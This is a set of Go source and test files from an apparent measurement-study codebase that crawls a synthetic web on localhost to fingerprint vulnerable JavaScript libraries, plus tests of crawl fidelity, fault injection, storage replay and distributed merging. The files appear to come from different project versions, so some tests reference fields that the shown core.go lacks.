	report.Figure14(w, r.Vuln, r.Weeks)
	report.Figure15(w, r.Libs, r.Weeks)
	report.Headlines(w, r.Vuln, r.Delay, r.SRI, r.Flash, r.Disc)
	report.Extensions(w, r.Vuln, r.Regress)
}
