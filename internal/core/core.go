// Package core orchestrates the full study pipeline: generate (or accept)
// a web population, collect weekly snapshots — either by actually crawling
// the synthetic web over HTTP and fingerprinting the pages, or directly
// from generator ground truth at scale — run every analysis of the paper,
// and run the PoC version-validation experiment.
package core

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"clientres/internal/analysis"
	"clientres/internal/crawler"
	"clientres/internal/fingerprint"
	"clientres/internal/poclab"
	"clientres/internal/report"
	"clientres/internal/store"
	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

// Mode selects how snapshots are collected.
type Mode int

// Collection modes.
const (
	// ModeDirect converts generator ground truth straight into
	// observations — the scale path (validated against ModeCrawl by the
	// pipeline-equivalence tests).
	ModeDirect Mode = iota
	// ModeCrawl serves the synthetic web over a local HTTP listener,
	// crawls every domain every week, and fingerprints the fetched pages —
	// the paper's real pipeline.
	ModeCrawl
)

// Config parameterizes a study run.
type Config struct {
	// Domains, Weeks, Seed parameterize the synthetic population.
	Domains, Weeks int
	Seed           int64
	// Mode selects crawl vs direct collection.
	Mode Mode
	// Workers bounds crawl concurrency (ModeCrawl).
	Workers int
	// StorePath, when set, persists every observation to a gzip JSONL
	// file.
	StorePath string
	// Progress, when set, receives one line per collected week.
	Progress func(format string, args ...any)
	// SkipPoC skips the version-validation experiment.
	SkipPoC bool
}

// Results bundles every collector plus the PoC findings after a run.
type Results struct {
	Eco       *webgen.Ecosystem
	Weeks     int
	Coll      *analysis.Collection
	Libs      *analysis.LibraryStats
	Vuln      *analysis.VulnPrevalence
	Delay     *analysis.UpdateDelay
	SRI       *analysis.SRI
	Flash     *analysis.Flash
	WordPress *analysis.WordPress
	Disc      *analysis.Discontinued
	// Regress measures update roll-backs (the Section 9 future-work
	// extension).
	Regress  *analysis.Regressions
	Findings []poclab.Finding
}

// Run executes the pipeline.
func Run(ctx context.Context, cfg Config) (*Results, error) {
	if cfg.Domains == 0 {
		cfg.Domains = 2000
	}
	if cfg.Weeks == 0 {
		cfg.Weeks = webgen.StudyWeeks
	}
	if cfg.Progress == nil {
		cfg.Progress = func(string, ...any) {}
	}
	eco := webgen.New(webgen.Config{Domains: cfg.Domains, Weeks: cfg.Weeks, Seed: cfg.Seed})
	res := &Results{
		Eco:       eco,
		Weeks:     cfg.Weeks,
		Coll:      analysis.NewCollection(cfg.Weeks),
		Libs:      analysis.NewLibraryStats(cfg.Weeks),
		Vuln:      analysis.NewVulnPrevalence(cfg.Weeks),
		Delay:     analysis.NewUpdateDelay(cfg.Weeks),
		SRI:       analysis.NewSRI(cfg.Weeks),
		Flash:     analysis.NewFlash(cfg.Weeks, cfg.Domains),
		WordPress: analysis.NewWordPress(cfg.Weeks),
		Disc:      analysis.NewDiscontinued(cfg.Weeks),
		Regress:   analysis.NewRegressions(cfg.Weeks),
	}
	runner := analysis.NewRunner(res.Coll, res.Libs, res.Vuln, res.Delay,
		res.SRI, res.Flash, res.WordPress, res.Disc, res.Regress)

	var writer *store.Writer
	if cfg.StorePath != "" {
		var err error
		writer, err = store.Create(cfg.StorePath)
		if err != nil {
			return nil, err
		}
		defer writer.Close()
	}
	observe := func(obs store.Observation) error {
		runner.Observe(obs)
		if writer != nil {
			return writer.Write(obs)
		}
		return nil
	}

	var err error
	switch cfg.Mode {
	case ModeCrawl:
		err = collectByCrawl(ctx, cfg, eco, observe)
	default:
		err = collectDirect(ctx, cfg, eco, observe)
	}
	if err != nil {
		return nil, err
	}

	if !cfg.SkipPoC {
		res.Findings, err = poclab.RunAll()
		if err != nil {
			return nil, err
		}
	}
	return res, nil
}

// collectDirect streams ground-truth observations, weeks ascending.
func collectDirect(ctx context.Context, cfg Config, eco *webgen.Ecosystem, observe func(store.Observation) error) error {
	for w := 0; w < cfg.Weeks; w++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		for i := range eco.Sites {
			obs := analysis.ObservationFromTruth(eco.Sites[i].Domain, eco.Truth(i, w))
			if err := observe(obs); err != nil {
				return err
			}
		}
		cfg.Progress("week %3d/%d collected (direct)", w+1, cfg.Weeks)
	}
	return nil
}

// collectByCrawl serves the ecosystem on a loopback listener, crawls every
// week, and fingerprints the fetched pages.
func collectByCrawl(ctx context.Context, cfg Config, eco *webgen.Ecosystem, observe func(store.Observation) error) error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: webserver.New(eco)}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	defer func() {
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(shutdownCtx)
		<-done
	}()

	workers := cfg.Workers
	if workers == 0 {
		workers = 64
	}
	cr := crawler.New(crawler.Config{
		BaseURL: "http://" + ln.Addr().String(),
		Workers: workers,
	})
	byName := eco.List.ByName()
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	for w := 0; w < cfg.Weeks; w++ {
		var obsErr error
		err := cr.CrawlWeek(ctx, w, domains, func(p crawler.Page) {
			dom := byName[p.Domain]
			var det fingerprint.Detection
			status := p.Status
			if p.Err != nil {
				status = 0
			} else if status == 200 {
				det = fingerprint.Page(p.Body, p.Domain)
			}
			obs := analysis.ObservationFromCrawl(dom, w, status, p.Body, det)
			if e := observe(obs); e != nil && obsErr == nil {
				obsErr = e
			}
		})
		if err != nil {
			return err
		}
		if obsErr != nil {
			return obsErr
		}
		cfg.Progress("week %3d/%d crawled", w+1, cfg.Weeks)
	}
	return nil
}

// RunFromStore replays a stored observation file through the analyses
// (Findings still come from the PoC lab, which is dataset-independent).
func RunFromStore(path string, weeks, domains int) (*Results, error) {
	res := &Results{
		Weeks:     weeks,
		Coll:      analysis.NewCollection(weeks),
		Libs:      analysis.NewLibraryStats(weeks),
		Vuln:      analysis.NewVulnPrevalence(weeks),
		Delay:     analysis.NewUpdateDelay(weeks),
		SRI:       analysis.NewSRI(weeks),
		Flash:     analysis.NewFlash(weeks, domains),
		WordPress: analysis.NewWordPress(weeks),
		Disc:      analysis.NewDiscontinued(weeks),
		Regress:   analysis.NewRegressions(weeks),
	}
	runner := analysis.NewRunner(res.Coll, res.Libs, res.Vuln, res.Delay,
		res.SRI, res.Flash, res.WordPress, res.Disc, res.Regress)
	if err := store.ForEach(path, func(obs store.Observation) error {
		runner.Observe(obs)
		return nil
	}); err != nil {
		return nil, err
	}
	var err error
	res.Findings, err = poclab.RunAll()
	return res, err
}

// WriteReport renders every table and figure of the paper plus the headline
// comparison.
func (r *Results) WriteReport(w io.Writer) {
	fmt.Fprintf(w, "clientres study report — %d weeks\n", r.Weeks)
	report.Table1(w, r.Libs.Table1())
	report.Table2(w, r.Findings, r.Vuln)
	report.Table3(w)
	report.Table4(w, r.WordPress.Table4())
	report.Table5(w, r.Libs)
	report.Table6(w, r.SRI)
	report.Figure2a(w, r.Coll)
	report.Figure2b(w, r.Coll)
	report.Figure3(w, r.Libs, r.Weeks)
	report.Figure4(w, r.Findings, "jquery", "Figure 4: jQuery disclosed vs true vulnerable versions")
	report.Figure5(w, r.Vuln, r.Weeks,
		[]string{"CVE-2020-7656", "CVE-2014-6071", "CVE-2020-11022"},
		"Figure 5: affected sites over time, jQuery advisories (CVE vs TVV)")
	report.Figure6(w, r.Libs, r.Weeks)
	report.Figure7(w, r.Libs, r.Weeks)
	report.Figure8(w, r.Flash, r.Weeks)
	report.Figure9(w, r.WordPress, r.Weeks)
	report.Figure10(w, r.SRI, r.Weeks)
	report.Figure11(w, r.Flash, r.Weeks)
	report.Figure12(w, r.Vuln)
	report.Figure13(w, r.Findings)
	report.Figure14(w, r.Vuln, r.Weeks)
	report.Figure15(w, r.Libs, r.Weeks)
	report.Headlines(w, r.Vuln, r.Delay, r.SRI, r.Flash, r.Disc)
	report.Extensions(w, r.Vuln, r.Regress)
}
