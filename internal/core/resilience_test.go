package core

// Crawl-path resilience at the pipeline level: on a fault-free ecosystem
// the resilience layer must be observationally invisible (byte-identical
// report), and under injected chaos the pipeline must complete with
// counters that reconcile against the deterministic fault schedule.

import (
	"context"
	"strings"
	"testing"
	"time"

	"clientres/internal/crawler"
	"clientres/internal/webserver"
)

func TestResilientCrawlByteIdenticalReport(t *testing.T) {
	base := Config{Domains: 120, Weeks: 8, Seed: 5, Mode: ModeCrawl, Workers: 16, SkipPoC: true}
	plain, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, plain)
	if !strings.Contains(want, "Table 1:") {
		t.Fatal("baseline report looks empty")
	}

	cfg := base
	cfg.Resilience = crawler.Resilience{
		Enabled: true,
		MinGap:  time.Millisecond, // keep the test quick; semantics don't depend on the gap
	}
	polite, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if got := reportOf(t, polite); got != want {
		t.Error("resilience layer changed the report; it must only change failure cost, not observations")
	}
	if plain.Crawl == nil || polite.Crawl == nil {
		t.Fatal("crawl metrics missing from Results")
	}
	// Same ecosystem, same statuses: the polite run may shed dead hosts
	// (breaker) but must succeed on exactly the same fetches.
	if plain.Crawl.Successes != polite.Crawl.Successes {
		t.Errorf("successes differ: plain %d vs polite %d", plain.Crawl.Successes, polite.Crawl.Successes)
	}
	if polite.Crawl.BreakerTrips == 0 {
		t.Error("an 8-week crawl with permanently-dead hosts should trip some breakers")
	}
}

func TestDirectRunHasNoCrawlMetrics(t *testing.T) {
	res, err := Run(context.Background(), Config{Domains: 60, Weeks: 4, Seed: 2, SkipPoC: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crawl != nil {
		t.Error("direct collection must not report crawl metrics")
	}
}

// TestChaosCrawlCompletesAndCounts runs the full pipeline against an
// ecosystem injecting all four fault types and checks (a) it terminates,
// (b) the counters floor-match the schedule: every scheduled reset or
// truncate on an alive page defeats the default 10s fetch timeout's body
// read, so wire failures can't be fewer than those.
func TestChaosCrawlCompletesAndCounts(t *testing.T) {
	cfg := Config{
		Domains: 40, Weeks: 3, Seed: 5, Mode: ModeCrawl, Workers: 16, SkipPoC: true,
		ChaosRate: 0.25, ChaosSeed: 9,
		Resilience: crawler.Resilience{Enabled: true, MinGap: time.Millisecond},
	}
	res, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(reportOf(t, res), "Table 1:") {
		t.Fatal("chaos crawl produced an empty report")
	}
	if res.Crawl == nil {
		t.Fatal("crawl metrics missing")
	}

	// Recompute the schedule the server used (same seed, same hash).
	chaos := &webserver.Chaos{Seed: cfg.ChaosSeed, Rate: cfg.ChaosRate}
	hardFaults := 0
	for i := range res.Eco.Sites {
		for w := 0; w < cfg.Weeks; w++ {
			if res.Eco.Truth(i, w).Status == 0 {
				continue
			}
			switch chaos.FaultFor(w, res.Eco.Sites[i].Domain.Name) {
			case webserver.FaultReset, webserver.FaultTruncate:
				hardFaults++
			}
		}
	}
	if hardFaults == 0 {
		t.Fatal("schedule injected no hard faults; pick another seed")
	}
	if res.Crawl.ConnFailures < int64(hardFaults) {
		t.Errorf("wire failures %d < %d scheduled hard faults", res.Crawl.ConnFailures, hardFaults)
	}
	if res.Crawl.Retries == 0 {
		t.Error("hard faults with the default retry policy should consume retries")
	}
}
