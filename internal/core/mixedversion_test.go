package core

// Cross-version replay equivalence: the same observation set stored in
// every on-disk format the store has ever written — v1 plain JSONL, v2
// framed, v3 delta — must replay to byte-identical reports through
// RunFromStore, serial and sharded. This is the compatibility contract
// that lets old archives keep feeding new analysis code.

import (
	"context"
	"path/filepath"
	"strconv"
	"testing"

	"clientres/internal/store"
)

func TestMixedVersionStoresReplayIdentically(t *testing.T) {
	dir := t.TempDir()
	base := Config{Domains: 120, Weeks: 10, Seed: 17, SkipPoC: true}

	// The reference run writes a v1 single file (store.Create is plain).
	single := filepath.Join(dir, "obs.jsonl.gz")
	cfg := base
	cfg.StorePath = single
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	ref, err := RunFromStore(single, base.Weeks, base.Domains, 1)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, ref)

	obs, err := store.ReadAll(single)
	if err != nil {
		t.Fatal(err)
	}

	stores := map[string]string{"v1-file": single}
	for _, format := range []int{store.FormatFramed, store.FormatDelta} {
		segDir := filepath.Join(dir, "store-v"+strconv.Itoa(format))
		w, err := store.CreateSegmentedWith(segDir, 3, store.SegmentedOptions{Format: format})
		if err != nil {
			t.Fatal(err)
		}
		for _, o := range obs {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		stores["v"+strconv.Itoa(format)+"-dir"] = segDir
	}

	for name, path := range stores {
		for _, shards := range []int{1, 3, 4} {
			res, err := RunFromStore(path, base.Weeks, base.Domains, shards)
			if err != nil {
				t.Fatalf("%s shards=%d: %v", name, shards, err)
			}
			if got := reportOf(t, res); got != want {
				t.Errorf("%s shards=%d: report differs from v1 single-file replay", name, shards)
			}
		}
	}
}
