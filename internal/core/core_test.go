package core

import (
	"context"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"clientres/internal/store"
)

func TestRunDirect(t *testing.T) {
	res, err := Run(context.Background(), Config{Domains: 300, Weeks: 25, Seed: 8})
	if err != nil {
		t.Fatal(err)
	}
	if res.Coll.MeanCollected() <= 0 {
		t.Error("nothing collected")
	}
	if len(res.Findings) != 27 {
		t.Errorf("findings = %d, want 27", len(res.Findings))
	}
	var b strings.Builder
	res.WriteReport(&b)
	out := b.String()
	// ("case study" only appears when the study spans the Flash EOL week,
	// which a 25-week test run does not.)
	for _, want := range []string{"Table 1:", "Headline findings", "Extensions"} {
		if !strings.Contains(out, want) {
			t.Errorf("report missing %q", want)
		}
	}
}

// TestCrawlDirectEquivalence is the pipeline-fidelity gate: collecting via
// the real HTTP crawler + fingerprint engine must produce exactly the same
// aggregates as direct ground-truth collection.
func TestCrawlDirectEquivalence(t *testing.T) {
	cfg := Config{Domains: 220, Weeks: 16, Seed: 12, SkipPoC: true}
	direct, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Mode = ModeCrawl
	cfg.Workers = 32
	crawled, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}

	if !reflect.DeepEqual(direct.Coll.CollectedSeries(), crawled.Coll.CollectedSeries()) {
		t.Errorf("collected series differ:\n direct %v\n crawled %v",
			direct.Coll.CollectedSeries(), crawled.Coll.CollectedSeries())
	}
	if !reflect.DeepEqual(direct.Libs.Table1(), crawled.Libs.Table1()) {
		t.Error("Table 1 differs between crawl and direct collection")
	}
	for _, useTVV := range []bool{false, true} {
		d := direct.Vuln.MeanVulnerableShare(useTVV)
		c := crawled.Vuln.MeanVulnerableShare(useTVV)
		if d != c {
			t.Errorf("vulnerable share (tvv=%v): direct %.6f crawled %.6f", useTVV, d, c)
		}
	}
	if direct.SRI.MissingSRIShare() != crawled.SRI.MissingSRIShare() {
		t.Error("SRI share differs")
	}
	dAll, _, _ := direct.Flash.UsageSeries()
	cAll, _, _ := crawled.Flash.UsageSeries()
	if !reflect.DeepEqual(dAll, cAll) {
		t.Error("Flash series differ")
	}
	dDelay := direct.Delay.Result(false, false)
	cDelay := crawled.Delay.Result(false, false)
	if dDelay.Updated != cDelay.Updated || dDelay.MeanDays != cDelay.MeanDays {
		t.Errorf("delay results differ: direct %+v crawled %+v", dDelay, cDelay)
	}
}

func TestRunPersistsAndReplays(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obs.jsonl.gz")
	cfg := Config{Domains: 150, Weeks: 12, Seed: 3, StorePath: path, SkipPoC: true}
	orig, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	if err := store.ForEach(path, func(store.Observation) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	if n != 150*12 {
		t.Errorf("stored observations = %d, want %d", n, 150*12)
	}
	replayed, err := RunFromStore(path, 12, 150, 1)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(orig.Libs.Table1(), replayed.Libs.Table1()) {
		t.Error("replayed Table 1 differs from original run")
	}
	if orig.Vuln.MeanVulnerableShare(false) != replayed.Vuln.MeanVulnerableShare(false) {
		t.Error("replayed prevalence differs")
	}
}

func TestRunContextCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Run(ctx, Config{Domains: 50, Weeks: 5, Seed: 1, SkipPoC: true}); err == nil {
		t.Error("cancelled context should error")
	}
}

func TestProgressCallback(t *testing.T) {
	lines := 0
	_, err := Run(context.Background(), Config{
		Domains: 40, Weeks: 6, Seed: 2, SkipPoC: true,
		Progress: func(string, ...any) { lines++ },
	})
	if err != nil {
		t.Fatal(err)
	}
	if lines != 6 {
		t.Errorf("progress lines = %d, want 6", lines)
	}
}
