// Merged replay from N worker segment sets: the analysis side of the
// distributed crawl plane (internal/distcrawl).
//
// A distributed run leaves, per domain partition, an ordered sequence of
// generation stores — one per lease epoch that had week-commits accepted
// by the coordinator. Each generation is an ordinary checkpointed
// segmented store holding a contiguous week range of one partition's
// domains. MergeWorkerStores replays those spans into per-partition
// collector sets and merges them exactly like a sharded run merges its
// shards (the partition function is the same store.ShardOf hash), so the
// merged report is byte-identical to a serial core.Run of the same
// configuration — the distributed plane's headline proof.
//
// The week filter is the merge half of the fencing story: a zombie worker
// may have store-committed weeks in its own generation after its lease
// expired, but the coordinator never accepted them, so they fall outside
// the generation's span and are excluded here. What the coordinator
// committed is the dataset; nothing else can leak in.

package core

import (
	"fmt"
	"sort"
	"sync"

	"clientres/internal/alexa"
	"clientres/internal/analysis"
	"clientres/internal/crawler"
	"clientres/internal/fingerprint"
	"clientres/internal/poclab"
	"clientres/internal/store"
)

// ObservationFromPage reduces one crawled page to a store Observation,
// fingerprinting usable bodies — the exact reduction core's own crawl
// paths apply, exported so distributed workers observe byte-identically
// to an in-process crawl. memo may be nil (no caching); when non-nil it
// must be private to the calling goroutine.
func ObservationFromPage(byName map[string]alexa.Domain, memo *fingerprint.Memo, p crawler.Page) store.Observation {
	return crawlObservation(byName, memo, p)
}

// ReplaySpan identifies one worker generation store and the committed
// week range [FromWeek, ToWeek) it contributes to the merged dataset.
// Observations outside the range — a fenced zombie's uncommitted surplus,
// or a week the coordinator reassigned before accepting — are skipped.
type ReplaySpan struct {
	// Path is the generation's segmented store directory (sealed: it must
	// carry a manifest; distcrawl seals crashed generations before merge).
	Path string
	// Partition is the domain-hash partition the store must hold —
	// store.ShardOf(domain, Partitions) for every observation in it.
	Partition int
	// FromWeek and ToWeek bound the committed weeks, half-open.
	FromWeek, ToWeek int
}

// MergeConfig parameterizes MergeWorkerStores.
type MergeConfig struct {
	// Weeks, Domains describe the study shape (as in Config).
	Weeks, Domains int
	// Partitions is the domain-hash partition count of the distributed
	// run — the modulus every span's observations are validated against.
	Partitions int
	// DomainsPerPartition, when non-nil, enables the exact-count check:
	// partition p must replay Σ_spans (ToWeek-FromWeek) × DomainsPerPartition[p]
	// observations (every crawled (domain, week) yields exactly one
	// observation, failures included).
	DomainsPerPartition []int
	// SkipPoC skips the version-validation experiment (Results.Findings
	// stays nil; reports of runs that also skipped it stay comparable).
	SkipPoC bool
}

// MergeWorkerStores replays every partition's generation spans —
// week-filtered, partition-validated — into per-partition collector sets
// and merges them into one Results, exactly as a sharded in-process run
// would. Partitions replay concurrently (they are domain-disjoint by the
// ShardOf invariant); within a partition, spans replay in ascending week
// order so the stateful collectors see each domain's weeks in order.
func MergeWorkerStores(spans []ReplaySpan, cfg MergeConfig) (*Results, error) {
	if cfg.Partitions < 1 {
		return nil, fmt.Errorf("core: merge: %d partitions", cfg.Partitions)
	}
	byPart := make([][]ReplaySpan, cfg.Partitions)
	for _, sp := range spans {
		if sp.Partition < 0 || sp.Partition >= cfg.Partitions {
			return nil, fmt.Errorf("core: merge: span %s names partition %d of %d", sp.Path, sp.Partition, cfg.Partitions)
		}
		if sp.FromWeek < 0 || sp.ToWeek > cfg.Weeks || sp.FromWeek >= sp.ToWeek {
			return nil, fmt.Errorf("core: merge: span %s has week range [%d,%d) of %d weeks",
				sp.Path, sp.FromWeek, sp.ToWeek, cfg.Weeks)
		}
		byPart[sp.Partition] = append(byPart[sp.Partition], sp)
	}
	// Every partition must be covered [0, Weeks) by contiguous spans: a
	// gap means a week nobody's commit was accepted for — merging would
	// silently produce a short dataset.
	for p, ps := range byPart {
		sort.Slice(ps, func(i, j int) bool { return ps[i].FromWeek < ps[j].FromWeek })
		next := 0
		for _, sp := range ps {
			if sp.FromWeek != next {
				return nil, fmt.Errorf("core: merge: partition %d weeks [%d,%d) uncovered", p, next, sp.FromWeek)
			}
			next = sp.ToWeek
		}
		if next != cfg.Weeks {
			return nil, fmt.Errorf("core: merge: partition %d weeks [%d,%d) uncovered", p, next, cfg.Weeks)
		}
	}

	res := newResults(cfg.Weeks, cfg.Domains)
	partRes := make([]*Results, cfg.Partitions)
	errs := make([]error, cfg.Partitions)
	var wg sync.WaitGroup
	for p := 0; p < cfg.Partitions; p++ {
		partRes[p] = newResults(cfg.Weeks, cfg.Domains)
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			errs[p] = replayPartition(byPart[p], p, cfg, partRes[p].runner())
		}(p)
	}
	wg.Wait()
	for _, e := range errs {
		if e != nil {
			return nil, e
		}
	}
	for _, pr := range partRes {
		res.Merge(pr)
	}
	if !cfg.SkipPoC {
		var err error
		res.Findings, err = poclab.RunAll()
		if err != nil {
			return nil, err
		}
	}
	return res, nil
}

// replayPartition streams one partition's spans, in week order, into its
// collector runner, enforcing the partition invariant and (when the
// expected per-partition domain counts are known) the exact observation
// count net of the week filter.
func replayPartition(spans []ReplaySpan, p int, cfg MergeConfig, runner *analysis.Runner) error {
	replayed := 0
	for _, sp := range spans {
		err := store.ForEachSegmented(sp.Path, func(obs store.Observation) error {
			if obs.Week < sp.FromWeek || obs.Week >= sp.ToWeek {
				// Outside the accepted span: a fenced commit's surplus.
				return nil
			}
			if store.ShardOf(obs.Domain, cfg.Partitions) != p {
				return fmt.Errorf("core: merge: %s: domain %q belongs to partition %d, store claims %d",
					sp.Path, obs.Domain, store.ShardOf(obs.Domain, cfg.Partitions), p)
			}
			runner.Observe(obs)
			replayed++
			return nil
		})
		if err != nil {
			return err
		}
	}
	if cfg.DomainsPerPartition != nil {
		want := 0
		for _, sp := range spans {
			want += (sp.ToWeek - sp.FromWeek) * cfg.DomainsPerPartition[p]
		}
		if replayed != want {
			return fmt.Errorf("core: merge: partition %d replayed %d observations, expected %d", p, replayed, want)
		}
	}
	return nil
}
