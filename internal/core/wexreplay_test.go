package core

// Record/replay equivalence: a crawl recorded into a web-execution bundle
// must (a) produce a report byte-identical to the same crawl without
// recording, and (b) replay from the bundle — with zero network, no
// loopback server, and an unresolvable base URL — to that same report.
// The matrix covers serial and sharded runs, plain and bundled-
// fingerprinting populations, and crash/resume of a checkpointed
// recording.

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"clientres/internal/webgen"
	"clientres/internal/wexbundle"
)

func TestReplayByteIdenticalReport(t *testing.T) {
	plain := Config{Domains: 60, Weeks: 6, Seed: 9, Mode: ModeCrawl, Workers: 16, SkipPoC: true}
	bundled := plain
	bundled.Seed = 11
	bundled.Bundling = webgen.Bundling{Fraction: 0.6, MinifyP: 0.5, BannerP: 1, SourceMapP: 0.3}
	bundled.BundleScan = true

	cases := []struct {
		name string
		base Config
	}{
		{"serial-plain", plain},
		{"sharded-plain", withShards(plain, 3)},
		{"serial-bundled", bundled},
		{"sharded-bundled", withShards(bundled, 3)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ref, err := Run(context.Background(), tc.base)
			if err != nil {
				t.Fatal(err)
			}
			want := reportOf(t, ref)
			if !strings.Contains(want, "Table 1:") {
				t.Fatal("reference report looks empty")
			}

			dir := filepath.Join(t.TempDir(), "bundle")
			rec := tc.base
			rec.RecordBundle = dir
			recorded, err := Run(context.Background(), rec)
			if err != nil {
				t.Fatal(err)
			}
			if got := reportOf(t, recorded); got != want {
				t.Error("recording changed the report")
			}

			// The replayed run opens no listener and serves no web: every
			// byte comes from the archive. Its report must equal the live
			// run that recorded it.
			rep := tc.base
			rep.ReplayBundle = dir
			replayed, err := Run(context.Background(), rep)
			if err != nil {
				t.Fatal(err)
			}
			if got := reportOf(t, replayed); got != want {
				t.Error("replayed report differs from the live run that recorded it")
			}

			// Shard-flip on replay: the bundle carries no shard structure,
			// so replaying at a different shard count still matches.
			flip := tc.base
			flip.ReplayBundle = dir
			if flip.Shards > 1 {
				flip.Shards = 1
			} else {
				flip.Shards = 4
			}
			flipped, err := Run(context.Background(), flip)
			if err != nil {
				t.Fatal(err)
			}
			if got := reportOf(t, flipped); got != want {
				t.Errorf("replay at %d shards differs from the recorded run", flip.Shards)
			}
		})
	}
}

func withShards(cfg Config, n int) Config {
	cfg.Shards = n
	return cfg
}

// TestReplayRefusesRecordingConflicts covers the mode guards: replay and
// record are mutually exclusive, and neither makes sense off the crawl
// path.
func TestReplayRefusesRecordingConflicts(t *testing.T) {
	if _, err := Run(context.Background(), Config{Domains: 5, Weeks: 1, SkipPoC: true,
		RecordBundle: t.TempDir()}); err == nil {
		t.Error("RecordBundle accepted on the direct path")
	}
	if _, err := Run(context.Background(), Config{Domains: 5, Weeks: 1, SkipPoC: true, Mode: ModeCrawl,
		RecordBundle: filepath.Join(t.TempDir(), "a"), ReplayBundle: filepath.Join(t.TempDir(), "b")}); err == nil {
		t.Error("RecordBundle+ReplayBundle accepted together")
	}
}

// TestReplayMissingRecordFails: replaying a bundle that does not cover the
// requested run errors instead of fetching — the zero-network guarantee at
// the run level. The bundle records a 4-week run; replaying 6 weeks needs
// fetches the archive cannot serve.
func TestReplayMissingRecordFails(t *testing.T) {
	base := Config{Domains: 20, Weeks: 4, Seed: 3, Mode: ModeCrawl, Workers: 8, SkipPoC: true}
	dir := filepath.Join(t.TempDir(), "bundle")
	rec := base
	rec.RecordBundle = dir
	if _, err := Run(context.Background(), rec); err != nil {
		t.Fatal(err)
	}
	rep := base
	rep.Weeks = 6
	rep.ReplayBundle = dir
	res, err := Run(context.Background(), rep)
	if err != nil {
		t.Fatalf("replay run failed outright: %v", err)
	}
	// Unrecorded weeks replay as failed fetches (status 0), never as live
	// ones: weeks 4-5 must collect zero usable pages.
	series := res.Coll.CollectedSeries()
	if len(series) != 6 {
		t.Fatalf("collected series has %d weeks", len(series))
	}
	if series[4] != 0 || series[5] != 0 {
		t.Errorf("unrecorded weeks collected %v pages — the replay fetched something", series[4:])
	}
	if series[0] == 0 {
		t.Error("recorded weeks collected nothing")
	}
}

// TestRecordCrashResumeEquivalence: kill a checkpointed recording after
// week k, resume it, and the finished bundle must (a) replay to the
// uninterrupted run's report and (b) hold exactly the records of an
// uninterrupted recording — committed weeks were not re-fetched on
// resume (their per-week record counts match the uninterrupted archive).
func TestRecordCrashResumeEquivalence(t *testing.T) {
	base := Config{Domains: 40, Weeks: 6, Seed: 5, Mode: ModeCrawl, Workers: 16, StoreSegments: 2, SkipPoC: true}

	ref, err := Run(context.Background(), base)
	if err != nil {
		t.Fatal(err)
	}
	want := reportOf(t, ref)

	// An uninterrupted recording's per-week profile is the no-refetch
	// reference.
	refDir := filepath.Join(t.TempDir(), "ref-bundle")
	refCfg := base
	refCfg.RecordBundle = refDir
	refCfg.StorePath = filepath.Join(t.TempDir(), "ref-store")
	refCfg.Checkpoint = true
	if _, err := Run(context.Background(), refCfg); err != nil {
		t.Fatal(err)
	}
	refStats, err := wexbundle.Stats(refDir)
	if err != nil {
		t.Fatal(err)
	}

	for _, k := range []int{1, 3, 5} {
		dir := filepath.Join(t.TempDir(), "bundle")
		cfg := base
		cfg.RecordBundle = dir
		cfg.StorePath = filepath.Join(t.TempDir(), "store")
		cfg.Checkpoint = true
		ctx, cancel := context.WithCancel(context.Background())
		cfg.Progress = crashAfter(k, cancel)
		if _, err := Run(ctx, cfg); err == nil {
			t.Fatalf("k=%d: crashed run reported success", k)
		}
		cancel()

		cfg.Progress = nil
		cfg.Resume = true
		if _, err := Run(context.Background(), cfg); err != nil {
			t.Fatalf("k=%d: resume: %v", k, err)
		}

		stats, err := wexbundle.Stats(dir)
		if err != nil {
			t.Fatalf("k=%d: %v", k, err)
		}
		if len(stats) != len(refStats) {
			t.Fatalf("k=%d: resumed bundle covers %d weeks, want %d", k, len(stats), len(refStats))
		}
		for i := range stats {
			if stats[i] != refStats[i] {
				t.Errorf("k=%d week %d: resumed recording %+v, uninterrupted %+v — committed weeks were re-fetched or lost",
					k, stats[i].Week, stats[i], refStats[i])
			}
		}

		rep := base
		rep.ReplayBundle = dir
		replayed, err := Run(context.Background(), rep)
		if err != nil {
			t.Fatalf("k=%d: replay: %v", k, err)
		}
		if got := reportOf(t, replayed); got != want {
			t.Errorf("k=%d: replay of the resumed bundle differs from the uninterrupted run", k)
		}
	}
}
