package webserver

import (
	"bufio"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"clientres/internal/webgen"
)

// healthySite returns the index of a site accessible at week 0.
func healthySite(t *testing.T, eco *webgen.Ecosystem) int {
	t.Helper()
	for i := range eco.Sites {
		if eco.Truth(i, 0).Accessible {
			return i
		}
	}
	t.Fatal("no accessible site in ecosystem")
	return -1
}

func TestChaosScheduleDeterministicAndRated(t *testing.T) {
